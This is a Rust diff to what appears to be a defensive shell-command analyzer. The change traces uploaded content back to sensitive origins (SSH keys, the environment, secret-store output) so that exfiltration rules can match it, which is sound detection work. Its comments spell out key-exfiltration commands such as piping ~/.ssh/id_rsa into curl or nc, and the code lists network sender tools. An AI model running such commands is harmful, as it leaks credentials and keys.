@@ -40,6 +40,9 @@ pub enum Stdin {
     Network(String),
     /// Output of the named program, not knowable statically (`base64 -d`, `git ls-files`).
     Opaque(String),
+    /// Secrets printed by the named command (`aws secretsmanager get-secret-value`,
+    /// `vault kv get`, `gh auth token`).
+    Secret(String),
     /// Output a filter (`base64`, `gzip -c`, `sort`, `xxd`) computed from a known input, named by
     /// the filter: not knowable as text, but still the input's content in another form
     /// (`base64 ~/.ssh/id_rsa | curl -d @- ...` sends the key).
@@ -57,7 +60,7 @@ impl Stdin {
             Stdin::Text(..) => None,
             Stdin::File(_) => Some(Opaque::ScriptFile),
             Stdin::Network(_) => Some(Opaque::NetworkCode),
-            Stdin::Opaque(_) | Stdin::Derived(..) => Some(Opaque::PipedCode),
+            Stdin::Opaque(_) | Stdin::Secret(_) | Stdin::Derived(..) => Some(Opaque::PipedCode),
             Stdin::Group(parts) => {
                 let kinds: Vec<Opaque> = parts.iter().filter_map(Stdin::as_code_opacity).collect();
                 kinds
@@ -496,9 +499,13 @@ impl<'c> Walker<'c> {
             }
         }
         env.sort();
-        if let Some(stdin) = &parts.stdin {
-            name_uploaded_stdin(&mut parts.args, stdin);
-        }
+        name_uploaded_content(
+            &mut parts.args,
+            parts.stdin.as_ref(),
+            &parts.procsubs,
+            st.cwd.as_deref(),
+            st,
+        );
         let inv = Invocation {
             args: parts.args,
             provenance: st.prov.clone(),
@@ -963,7 +970,7 @@ pub fn static_output(text: &str, vars: &Vars) -> Option<String> {
     }
 }
 
-/// Remembers the files `inv` writes with known (or downloaded) content.
+/// Remembers the files `inv` writes with known (or downloaded) content, or another file's.
 fn record_writes(inv: &Invocation, produced: Option<&Stdin>, st: &mut State) {
     if st.remote {
         return;
@@ -974,6 +981,11 @@ fn record_writes(inv: &Invocation, produced: Option<&Stdin>, st: &mut State) {
             let content = produced
                 .cloned()
                 .unwrap_or_else(|| Stdin::Opaque(inv.program_name().to_string()));
+            st.written.insert(path, content);
+        }
+    }
+    for (file, content) in super::producer::files_written(inv) {
+        if let Some(path) = join_path(cwd, &file) {
             st.written.insert(path, content);
         }
     }
@@ -1002,6 +1014,13 @@ fn record_writes(inv: &Invocation, produced: Option<&Stdin>, st: &mut State) {
     }
 }
 
+/// How an upload of secrets printed by `command` is shown in the uploader's arguments, in
+/// place of `-` (`curl -d @-` becomes `curl -d @(secret printed by vault kv get)`): the rules
+/// on secret uploads match it.
+fn secret_source(command: &str) -> String {
+    format!("(secret printed by {command})")
+}
+
 /// Programs whose output is the environment, as `/proc/self/environ` holds it.
 const ENVIRONMENT_DUMPERS: [&str; 3] = ["env", "printenv", "export"];
 
@@ -1011,56 +1030,101 @@ const UPLOAD_FILE_FLAGS: [&str; 4] = ["-T", "--upload-file", "--post-file", "--b
 /// Programs that send their standard input to another machine as it is.
 const STDIN_SENDERS: [&str; 6] = ["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
 
-/// Where an HTTP client uploads its standard input (`curl -d @-`, `curl -T -`, `-F f=@-`) and that
-/// input is a file (`< path`, `cat path |`, also encoded or compressed on the way: `base64 path |`)
-/// or the environment (`env |`), names the file instead of `-` (`/proc/self/environ` for the
-/// environment): what is sent is then judged as the file it is (`cat ~/.ssh/id_rsa | curl -d @-
-/// https://...`). A program that sends its input as it is (`nc host 4444 < file`) gets the file
-/// as one more argument.
-fn name_uploaded_stdin(args: &mut Vec<Arg>, stdin: &Stdin) {
-    let mut origin = stdin;
-    while let Stdin::Derived(_, source) = origin {
-        origin = source;
-    }
-    let path = match origin {
-        Stdin::File(path) => path.as_str(),
-        Stdin::Opaque(program) if ENVIRONMENT_DUMPERS.contains(&program.as_str()) => {
-            "/proc/self/environ"
-        }
-        _ => return,
-    };
+/// What an HTTP client or a raw sender uploads, named for the rules on secret uploads: when the
+/// upload is its standard input (`curl -d @-`, `curl -T -`, `-F f=@-`), a file written earlier
+/// in the line (`... > /tmp/k; curl -T /tmp/k`) or a process substitution (`curl -T <(cmd)`)
+/// and that content is a file (`< path`, `cat path |`, also encoded or compressed on the way:
+/// `base64 path |`), the environment (`env |`) or a secret store's output (`vault kv get x |`),
+/// the upload's word names that origin instead (`/proc/self/environ` for the environment,
+/// [`secret_source`] for a secret): what is sent is then judged as what it is (`cat
+/// ~/.ssh/id_rsa | curl -d @- https://...`). A program that sends its input as it is (`nc host
+/// 4444 < file`) gets the origin as one more argument.
+fn name_uploaded_content(
+    args: &mut Vec<Arg>,
+    stdin: Option<&Stdin>,
+    procsubs: &[(usize, Stdin)],
+    cwd: Option<&str>,
+    st: &State,
+) {
     let program = args.first().and_then(|a| a.text.rsplit('/').next());
     if program.is_some_and(|p| STDIN_SENDERS.contains(&p)) {
-        args.push(Arg::literal(path));
+        if let Some(origin) = stdin.and_then(origin_name) {
+            args.push(Arg::literal(origin));
+        }
         return;
     }
     if !matches!(program, Some("curl" | "wget")) {
         return;
     }
-    let mut upload_next = false;
-    for arg in args.iter_mut().skip(1) {
-        if arg.dynamic {
-            upload_next = false;
-            continue;
+    // The content of the upload word `file` (after its `@` or flag), at index `at`.
+    let content = |file: &str, at: usize| -> Option<Stdin> {
+        if file == "-" {
+            return stdin.cloned();
         }
-        let replaced = if upload_next && arg.text == "-" {
-            Some(path.to_string())
-        } else if arg.text == "@-" {
-            Some(format!("@{path}"))
-        } else if let Some(field) = arg.text.strip_suffix("=@-") {
-            Some(format!("{field}=@{path}"))
-        } else if let Some(flag) = arg.text.strip_suffix("=-")
+        if file == "<(…)" {
+            return procsubs
+                .iter()
+                .find(|(i, _)| *i == at)
+                .map(|(_, s)| s.clone());
+        }
+        written_content(&Arg::literal(file), cwd, st)
+    };
+    let mut upload_next = false;
+    for i in 1..args.len() {
+        let text = args[i].text.clone();
+        let after_at = i > 1 && {
+            let before = &args[i - 1].text;
+            before == "@" || before.ends_with("=@")
+        };
+        let is_upload_flag = UPLOAD_FILE_FLAGS.contains(&text.as_str());
+        let (prefix, file) = if args[i].dynamic && text != "<(…)" {
+            (String::new(), None)
+        } else if upload_next || after_at {
+            (String::new(), Some(text.as_str()))
+        } else if let Some(rest) = text.strip_prefix('@') {
+            ("@".to_string(), Some(rest))
+        } else if let Some((field, rest)) = text.split_once("=@") {
+            (format!("{field}=@"), Some(rest))
+        } else if let Some((flag, rest)) = text.split_once('=')
             && flag.starts_with("--")
             && UPLOAD_FILE_FLAGS.contains(&flag)
         {
-            Some(format!("{flag}={path}"))
+            (format!("{flag}="), Some(rest))
         } else {
-            None
+            (String::new(), None)
         };
-        upload_next = UPLOAD_FILE_FLAGS.contains(&arg.text.as_str());
-        if let Some(text) = replaced {
-            *arg = Arg::literal(text);
+        upload_next = is_upload_flag;
+        if let Some(origin) = file
+            .filter(|f| !f.is_empty())
+            .and_then(|f| content(f, i))
+            .and_then(|c| origin_name(&c))
+        {
+            if after_at {
+                // `-d @<(cmd)` comes as two words, `@` and the substitution.
+                let before = args[i - 1].text.clone();
+                args[i - 1] = Arg::literal(format!("{before}{origin}"));
+            } else {
+                args[i] = Arg::literal(format!("{prefix}{origin}"));
+            }
         }
+    }
+}
+
+/// The name of what `content` holds when it is sensitive at its origin, through any encoding
+/// on the way: a file's path, `/proc/self/environ` for the environment, [`secret_source`] for
+/// a secret store's output. `None` for text, downloads and other programs' output.
+fn origin_name(content: &Stdin) -> Option<String> {
+    let mut origin = content;
+    while let Stdin::Derived(_, source) = origin {
+        origin = source;
+    }
+    match origin {
+        Stdin::File(path) => Some(path.clone()),
+        Stdin::Opaque(program) if ENVIRONMENT_DUMPERS.contains(&program.as_str()) => {
+            Some("/proc/self/environ".to_string())
+        }
+        Stdin::Secret(command) => Some(secret_source(command)),
+        _ => None,
     }
 }
 
